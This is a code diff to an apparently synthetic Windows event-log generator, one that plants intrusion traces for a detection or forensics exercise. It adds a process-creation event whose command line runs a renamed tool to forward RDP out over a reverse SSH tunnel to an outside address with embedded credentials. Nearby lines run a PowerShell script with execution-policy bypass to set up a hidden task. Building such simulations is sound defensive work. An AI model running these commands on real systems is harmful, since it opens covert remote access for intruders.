@@ -41,6 +41,7 @@ struct winhost {
 	struct buf persist;
 	struct buf mail; /* mail access granted (mail_granted) */
 	bool bad_module, bad_agent; /* returned-later's config entries */
+	bool tunnel;                /* returned-later's tunnel out */
 	char bad_task[64];          /* returned-later's hidden task, or "" */
 	int failed;
 };
@@ -380,6 +381,14 @@ void winhost_returned(struct winhost *w)
 	   "Administrators", "SubjectUserName", "EXCH01$", NULL);
 	planted(w, "account-created");
 	planted(w, "group-member-added");
+	/* a way in from outside: RDP forwarded out over SSH */
+	ev(w, L_SEC, SEC_P, 4688, 0, t + 250, NULL, "NewProcessName",
+	   "C:\\ProgramData\\Microsoft\\p.exe", "ParentProcessName",
+	   "C:\\Windows\\System32\\cmd.exe", "CommandLine",
+	   "p.exe -batch -R 0.0.0.0:3390:127.0.0.1:3389 -l u -pw p "
+	   "198.51.100.23",
+	   NULL);
+	w->tunnel = true;
 	/* a task hidden by removing its security descriptor */
 	snprintf(cmd, sizeof cmd,
 	         "powershell.exe -ep bypass -f C:\\ProgramData\\%s.ps1", task);
@@ -454,6 +463,11 @@ void winhost_returned(struct winhost *w)
 const char *winhost_persistence(struct winhost *w)
 {
 	return w->persist.p ? w->persist.p : "";
+}
+
+bool winhost_tunnel(const struct winhost *w)
+{
+	return w->tunnel;
 }
 
 const char *winhost_mail_access(struct winhost *w)
